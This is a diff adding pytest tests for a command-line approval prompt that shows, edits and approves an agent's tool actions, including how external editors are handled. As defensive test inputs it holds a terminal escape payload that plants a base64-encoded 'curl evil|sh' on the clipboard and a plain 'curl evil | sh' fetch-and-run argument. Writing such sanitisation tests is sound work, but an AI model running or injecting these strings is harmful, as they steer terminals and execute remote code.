@@ -4,14 +4,19 @@ from __future__ import annotations
 
 import io
 import json
+import shlex
+import signal
 import sys
+import threading
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from commands.running import QUIRKS, Run, Screen
-from langwire.commands import answer
+from langwire.adapters.cli import Left, ask
+from langwire.adapters.cli import asking as answer
 from langwire.events import Action, Interrupt
 
 APPROVED = {"type": "approve"}
@@ -209,3 +214,182 @@ def test_a_prompt_shows_a_name_that_cannot_steer_a_terminal(monkeypatch: pytest.
     monkeypatch.setattr(sys, "stdin", io.StringIO("a\n"))
     answer.ask([Interrupt(id="1", kind="approval_batched", actions=(Action(name="send\x1b[31m\n"),))])
     assert screen.getvalue().startswith("send\\x1b[31m\\n: [a]pprove")
+
+
+# ------------------------------------------------------------------ shown again
+
+
+HOSTILE = "list files \x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2J\u202e"
+
+
+def test_a_question_mark_shows_all_that_is_asked_as_often_as_wanted(at_terminal: Run) -> None:
+    """F-C2: every argument, whole; what looks harmless in front hides nothing."""
+    done = at_terminal("deciding", "?", "?", "a")
+    assert done.code == 0
+    assert done.out.count('send {\n  "to": "zoë\\u202e",\n  "n": 0\n}\n') == 2
+    assert done.out.count("send: [a]pprove") == 3
+
+
+def test_every_argument_is_shown_and_no_character_steers_the_terminal(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """F-C1, F-C2, T-12: in the prompt, what is shown again, and the line to edit."""
+    args = {"comment": HOSTILE, "cmd": "curl evil | sh", "more": ["x" * 5000, HOSTILE], "del": "\x7f"}
+    action = Action(name=f"run{HOSTILE}", args=args, description=HOSTILE)
+    screen, shown = Screen(), list[str]()
+    lines = iter(["?", "e", "", "res", "", "a"])
+
+    def read(prompt: str, begin: str) -> str:
+        shown.extend((prompt, begin))
+        return next(lines)
+
+    monkeypatch.setattr(sys, "stdout", screen)
+    monkeypatch.delenv("EDITOR", raising=False)
+    monkeypatch.delenv("VISUAL", raising=False)
+    ask([Interrupt(id="1", kind="approval_batched", actions=(action,))], read=read)
+    told = screen.getvalue()
+    assert "curl evil | sh" in told
+    assert "x" * 5000 in told
+    assert json.loads(shown[5]) == args
+    everything = told + "".join(shown)
+    assert not [c for c in everything if c != "\n" and not c.isprintable()]
+
+
+def test_a_free_question_and_a_breakpoint_are_shown_again_too(monkeypatch: pytest.MonkeyPatch) -> None:
+    screen = Screen()
+    monkeypatch.setattr(sys, "stdout", screen)
+    lines = iter(["?", "Ann", "?", '"?"', "?", ""])
+    questions = [
+        Interrupt(id="1", value="Your name?"),
+        Interrupt(id="2", value={"choose": [1, 2]}),
+        Interrupt(id="3", kind="breakpoint", value="tools"),
+    ]
+    assert ask(questions, read=lambda prompt, begin: next(lines)) == {"1": "Ann", "2": "?"}
+    assert screen.getvalue() == 'Your name?\n{\n  "choose": [\n    1,\n    2\n  ]\n}\ntools\n'
+
+
+def test_who_reads_for_it_may_leave() -> None:
+    def leave(prompt: str, begin: str) -> str:
+        raise EOFError
+
+    with pytest.raises(Left):
+        ask([Interrupt(id="1", value="Your name?")], read=leave)
+
+
+# ------------------------------------------------------------------ in an editor
+
+
+Edit = Callable[..., tuple[Any, str, Path]]
+
+EDITOR = """
+import pathlib, sys
+log, *texts = sys.argv[1:-1]
+file = pathlib.Path(sys.argv[-1])
+log = pathlib.Path(log)
+opened = log.read_text().splitlines() if log.exists() else []
+log.write_text("\\n".join([*opened, f"{file} {file.stat().st_mode & 0o777:o} {file.read_text()!r}"]))
+text = texts[len(opened)]
+if text.startswith("exit"):
+    sys.exit(int(text.split()[1]))
+if text != "keep":
+    file.write_text(text)
+"""
+
+
+@pytest.fixture
+def edited(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Edit:
+    """Decide on an action with an editor that writes these texts, one each time, and then with these lines."""
+
+    def edited(texts: list[str], *lines: str) -> tuple[Any, str, Path]:
+        (tmp_path / "editor.py").write_text(EDITOR)
+        command = [sys.executable, str(tmp_path / "editor.py"), str(tmp_path / "log"), *texts]
+        monkeypatch.setenv("VISUAL", "")
+        monkeypatch.setenv("EDITOR", shlex.join(command))
+        return decided(lines), sys.stdout.getvalue(), tmp_path / "log"  # type: ignore[attr-defined]
+
+    def decided(lines: tuple[str, ...]) -> Any:
+        monkeypatch.setattr(sys, "stdout", Screen())
+        monkeypatch.setattr(sys, "stdin", io.StringIO("".join(f"{line}\n" for line in ("e", *lines))))
+        question = Interrupt(id="1", kind="approval_batched", actions=(Action(name="send", args={"to": "zoë\u202e"}),))
+        return ask([question])["1"][0]
+
+    return edited
+
+
+def test_the_editor_opens_a_private_file_of_pretty_json_which_is_gone_afterwards(edited: Edit) -> None:
+    decision, _, log = edited(['{"to": "Bob"}'])
+    name, mode, text = log.read_text().split(" ", 2)
+    assert (decision.type, decision.args) == ("edit", {"to": "Bob"})
+    assert (mode, text) == ("600", repr('{\n  "to": "zoë\\u202e"\n}\n'))
+    assert name.endswith(".json")
+    assert not Path(name).exists()
+
+
+def test_what_is_no_json_says_why_and_is_opened_again_as_it_is(edited: Edit) -> None:
+    decision, told, log = edited(['{"to": ', '{"to": "Bob"}'], "")
+    assert decision.args == {"to": "Bob"}
+    assert "that is not JSON: " in told
+    assert "Enter opens it again, anything else goes back: " in told
+    assert log.read_text().splitlines()[1].endswith(repr('{"to": '))
+
+
+def test_what_is_no_json_can_be_given_up(edited: Edit) -> None:
+    decision, told, _ = edited(["[1]"], "b", "a")
+    assert decision.type == "approve"
+    assert "expected a JSON object with the new arguments" in told
+
+
+@pytest.mark.parametrize("text", ["keep", "", " \n"])
+def test_an_editor_that_changes_nothing_leads_back_to_the_choice(edited: Edit, text: str) -> None:
+    decision, told, _ = edited([text], "a")
+    assert decision.type == "approve"
+    assert "nothing was changed\n" in told
+
+
+def test_an_editor_that_fails_gives_way_to_a_line(edited: Edit) -> None:
+    decision, told, log = edited(["exit 3"], '{"to": "Bob"}')
+    assert decision.args == {"to": "Bob"}
+    assert "ended with code 3: type a line instead\n" in told
+    assert not Path(log.read_text().split()[0]).exists()
+
+
+@pytest.mark.parametrize("command", ["/nowhere/at/all", "'"])
+def test_an_editor_that_is_not_there_gives_way_to_a_line(
+    command: str, monkeypatch: pytest.MonkeyPatch, at_terminal: Run
+) -> None:
+    monkeypatch.setattr(answer, "editor", lambda: command)
+    done = at_terminal("deciding", "e", '{"to": "Bob"}')
+    assert done.code == 0
+    assert "does not open: " in done.out
+    assert "'args': {'to': 'Bob'}" in done.out
+
+
+def test_visual_comes_before_editor(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VISUAL", "fine")
+    monkeypatch.setenv("EDITOR", "plain")
+    assert answer.editor() == "fine"
+    monkeypatch.delenv("VISUAL")
+    assert answer.editor() == "plain"
+    monkeypatch.delenv("EDITOR")
+    assert answer.editor() is None
+
+
+PRESSES_CTRL_C = "import os, signal, sys; os.kill(os.getppid(), signal.SIGINT); open(sys.argv[1], 'w').write('{}')"
+SENDING = Interrupt(id="1", kind="approval_batched", actions=(Action(name="send", args={"n": 1}),))
+
+
+def test_ctrl_c_in_an_editor_is_the_editors(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The terminal sends it to the program that waits for the editor as well."""
+    before = signal.getsignal(signal.SIGINT)
+    monkeypatch.setenv("VISUAL", shlex.join([sys.executable, "-c", PRESSES_CTRL_C]))
+    assert ask([SENDING], read=lambda prompt, begin: "e")["1"][0].args == {}
+    assert signal.getsignal(signal.SIGINT) is before
+
+
+def test_an_editor_can_be_opened_from_any_thread(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("VISUAL", shlex.join([sys.executable, "-c", "import sys; open(sys.argv[1], 'w').write('{}')"]))
+    answers: list[Any] = []
+    thread = threading.Thread(target=lambda: answers.append(ask([SENDING], read=lambda prompt, begin: "e")))
+    thread.start()
+    thread.join()
+    assert answers[0]["1"][0].args == {}
